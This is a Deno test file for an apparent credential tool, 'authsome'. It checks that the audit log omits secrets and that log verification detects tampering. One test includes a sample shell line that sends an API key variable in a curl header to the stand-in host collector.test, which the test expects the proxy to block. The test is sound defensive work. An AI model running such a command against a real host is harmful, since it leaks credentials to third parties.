/**
 * The audit log of a real home: what a run did is in it, nothing secret is, and whoever changes it is
 * found out by `authsome log verify`.
 *
 * @module
 */
import assert from "node:assert/strict";
import type { AuditLine } from "../../core/audit_chain.ts";
import { homePaths } from "../../core/paths.ts";
import {
  ACME_HOST,
  ACME_KEY,
  type AcmeHome,
  openAcmeHome,
  OTHER_HOST,
} from "../support/acme_home.ts";
import { works } from "../support/client_programs.ts";
import { startCommand } from "../support/running_command.ts";

const WITH_CURL = { ignore: !await works("curl", "--version") };

/** In the path, the query, a header and the body of the run's requests: none of them is written down. */
const MARKS = ["path-mark-51c2", "query-mark-9e07", "header-mark-77ab", "body-mark-3d4e"];

Deno.test(
  "what a run did with a credential is in the log, by host, method and answer, and nothing of what it said",
  WITH_CURL,
  async () => {
    await using acme = await openScene();
    const [path, query, header, body] = MARKS;
    const url = `https://${ACME_HOST}/${path}?q=${query}`;
    const curl = ["curl", "-s", "-o", "/dev/null", "-H", `'X-Mark: ${header}'`];
    const post = `${curl.join(" ")} --data ${body} '${url}'`;
    const get = `${curl.join(" ")} '${url}'`;

    const ran = await acme.run(["/bin/sh", "-c", `${get}; ${get}; ${post}`], {
      args: ["--deny-unmatched"],
    });
    await acme.run(["curl", "-s", `https://${OTHER_HOST}/`], { args: ["--deny-unmatched"] });

    assert.equal(ran.code, 0, ran.stderr);
    const entries = await readLog(acme);
    const uses = entries.filter(({ event }) => event === "use");
    const counted = new Map<string, number>();
    for (const { details } of uses) {
      const { method, host, statuses } = details as Record<string, string> & {
        statuses: Record<string, number>;
      };
      for (const [kind, count] of Object.entries(statuses)) {
        const key = `${method} ${host} ${kind}`;
        counted.set(key, (counted.get(key) ?? 0) + count);
      }
    }
    assert.deepEqual(Object.fromEntries(counted), {
      [`GET ${ACME_HOST} 2xx`]: 2,
      [`POST ${ACME_HOST} 2xx`]: 1,
    });
    const run = uses[0]!.run;
    assert.equal(entries.find(({ event }) => event === "grant_start")?.run, run);
    assert.ok(entries.some(({ event, run: id }) => event === "resolve" && id === run));
    assert.ok(
      entries.some(({ event, details }) =>
        event === "proxy_deny" && details?.["host"] === OTHER_HOST &&
        details["reason"] === "HostNotAllowedError"
      ),
    );

    await acme.home.authsome(["get", "acme", "--show-secret"]);
    await acme.home.authsome(["export", "acme"]);
    await acme.home.authsome(["logout", "acme"]);
    await acme.home.authsome(["revoke", "acme"]);
    await acme.home.authsome(["remove", "acme"]);
    const text = await Deno.readTextFile(logOf(acme));
    for (const mark of [...MARKS, ACME_KEY]) assert.equal(text.includes(mark), false, mark);
    assert.equal(/[?&]q=/.test(text), false);
    const events = new Set((await readLog(acme)).map(({ event }) => event));
    for (const event of ["register", "login", "get", "export", "logout", "revoke", "remove"]) {
      assert.ok(events.has(event as AuditLine["event"]), `${event} is in the log`);
    }
  },
);

Deno.test(
  "a placeholder sent elsewhere is stopped, said on stderr, and in the log; its text in neither",
  WITH_CURL,
  async () => {
    await using acme = await openScene();
    const send = 'echo "$ACME_API_KEY"; curl -s -H "X-Key: $ACME_API_KEY" http://collector.test/';

    const { stdout, stderr } = await acme.run(["/bin/sh", "-c", send]);

    const [placeholder, answer] = stdout.split("\n");
    assert.equal(JSON.parse(answer!).error, "PlaceholderLeakError");
    assert.match(
      stderr,
      /blocked a request to collector\.test: it carried the placeholder of acme/,
    );
    const denials = (await readLog(acme)).filter(({ event }) => event === "proxy_deny");
    assert.deepEqual(denials.map(({ details }) => [details?.["host"], details?.["reason"]]), [
      ["collector.test", "PlaceholderLeakError"],
    ]);
    assert.ok(placeholder!.length > 15);
    assert.ok(!(await Deno.readTextFile(logOf(acme))).includes(placeholder!));
    assert.ok(!stderr.includes(placeholder!));
  },
);

Deno.test("log -f shows what comes, filtered, also over a restart of the daemon, until Ctrl-C", async () => {
  await using acme = await openScene();
  const all = startCommand(acme.home, ["log", "-f", "-n", "1", "--raw"]);
  const exports = startCommand(acme.home, ["log", "-f", "--event", "export"]);
  await all.untilPrinted(/\n/);
  await exports.until(/No audit entries found/);

  await acme.home.authsome(["get", "acme", "--show-secret"]);
  await acme.home.authsome(["export", "acme"]);
  await all.untilPrinted(/"event":"get".*\n.*"event":"export"/);
  await exports.untilPrinted(/ {2}export {2}acme\/default {2}/);
  await acme.home.authsome(["daemon", "stop"]);
  await acme.home.authsome(["set-default", "acme", "default"]);
  await all.untilPrinted(/"event":"daemon_start"[^]*"event":"set_default"/);

  all.kill("SIGINT");
  exports.kill("SIGINT");
  const ended = await all.finished;
  const lines = ended.stdout.trimEnd().split("\n").map((line) => JSON.parse(line) as AuditLine);
  const first = lines[0]!.seq;
  assert.deepEqual(lines.map(({ seq }) => seq), lines.map((_, i) => first + i), "each once");
  assert.equal((await exports.finished).stdout.match(/export/g)?.length, 1);
  assert.equal(ended.stdout.includes(ACME_KEY), false);
});

Deno.test("the log is signed when the daemon starts, and last of all when it stops", async () => {
  await using acme = await openScene();
  await acme.home.authsome(["daemon", "stop"]);
  const text = await Deno.readTextFile(logOf(acme));
  const events = text.trimEnd().split("\n").map((line) => (JSON.parse(line) as AuditLine).event);

  assert.deepEqual(events.slice(0, 2), ["daemon_start", "checkpoint"]);
  assert.deepEqual(events.slice(-2), ["daemon_stop", "checkpoint"]);
  assert.match((await acme.home.authsome(["log", "verify"])).stdout, /is intact: /);
});

Deno.test("authsome log verify finds each kind of tampering and names the file and the line", async (t) => {
  await using acme = await openScene();
  await acme.home.authsome(["export", "acme"]);
  await acme.home.authsome(["export", "acme"]);
  const log = logOf(acme);
  const whole = await Deno.readTextFile(log);
  const lines = whole.trimEnd().split("\n");
  const n = lines.length;
  assert.match((await acme.home.authsome(["log", "verify"])).stdout, /^The audit log is intact: /);

  for (const [name, tamper, place] of tampering(n)) {
    await t.step(name, async () => {
      await Deno.writeTextFile(log, `${tamper(lines).join("\n")}\n`);

      const { code, stderr } = await acme.home.authsome(["log", "verify"]);

      assert.equal(code, 1);
      assert.ok(stderr.includes(place), stderr);
      await Deno.writeTextFile(log, whole);
    });
  }
});

Deno.test("what is cut off, replaced or taken away while no daemon runs is noticed by the next one", async (t) => {
  await using acme = await openScene();
  await acme.home.authsome(["export", "acme"]);
  await acme.home.authsome(["daemon", "stop"]);
  const log = logOf(acme);
  const lines = (await Deno.readTextFile(log)).trimEnd().split("\n");
  const rotated = log.replace(/\.log$/, ".000000000003.log");
  const keep = async (path: string, kept: readonly string[]) =>
    await Deno.writeTextFile(path, kept.map((line) => `${line}\n`).join(""), { mode: 0o600 });
  const verify = async () => {
    const answer = await acme.home.authsome(["log", "verify"]);
    const damaged = (await readLog(acme)).some(({ event }) => event === "log_damaged");
    await acme.home.authsome(["daemon", "stop"]);
    return { ...answer, damaged };
  };

  await t.step("two files of one chain hold", async () => {
    await keep(rotated, lines.slice(0, 3));
    await keep(log, lines.slice(3));
    assert.match((await verify()).stdout, /in 2 files/);
  });
  await t.step("a rotated file that is gone", async () => {
    const kept = await Deno.readTextFile(rotated);
    await Deno.remove(rotated);
    const { code, stderr } = await verify();
    assert.equal(code, 1);
    assert.ok(stderr.includes("audit.log line 1 has sequence number 4, which follows 0"), stderr);
    await Deno.writeTextFile(rotated, kept, { mode: 0o600 });
  });
  await t.step("the end cut off", async () => {
    const now = (await Deno.readTextFile(log)).trimEnd().split("\n");
    await keep(log, now.slice(0, -2));
    const { code, stderr, damaged } = await verify();
    assert.equal(code, 1);
    assert.ok(stderr.includes(`audit.log line ${now.length - 1} has sequence number`), stderr);
    assert.ok(damaged);
  });
  await t.step("the whole log gone", async () => {
    await Deno.remove(log);
    await Deno.remove(rotated);
    const { code, stderr, damaged } = await verify();
    assert.equal(code, 1);
    assert.ok(stderr.includes("audit.log line 1 has sequence number"), stderr);
    assert.ok(damaged);
  });
});

function tampering(
  n: number,
): readonly [string, (lines: readonly string[]) => readonly string[], string][] {
  return [
    ["a changed line", (l) => l.with(3, l[3]!.replace('"acme"', '"acne"')), "audit.log line 4 "],
    ["the last line changed", (l) => l.with(-1, l.at(-1)!.replace("env", "xyz")), `line ${n} `],
    ["a removed line", (l) => l.toSpliced(3, 1), "audit.log line 4 "],
    ["an inserted line", (l) => l.toSpliced(3, 0, l[3]!), "audit.log line 5 "],
    ["two lines swapped", (l) => l.with(3, l[4]!).with(4, l[3]!), "audit.log line 4 "],
    ["the end cut off", (l) => l.slice(0, -1), `audit.log line ${n - 1} `],
    ["a line added", (l) => [...l, l.at(-1)!], `audit.log line ${n + 1} `],
    ["another whole file", () => ['{"seq":1}'], "audit.log line 1 "],
  ];
}

async function readLog(acme: AcmeHome): Promise<readonly AuditLine[]> {
  const { stdout } = await acme.home.authsome(["log", "-n", "1000", "--json"]);
  return JSON.parse(stdout).entries;
}

function logOf(acme: AcmeHome): string {
  return homePaths(acme.home.path).server.auditLog;
}

async function openScene(): Promise<AcmeHome & AsyncDisposable> {
  const acme = await openAcmeHome();
  return { ...acme, [Symbol.asyncDispose]: () => acme.close() };
}
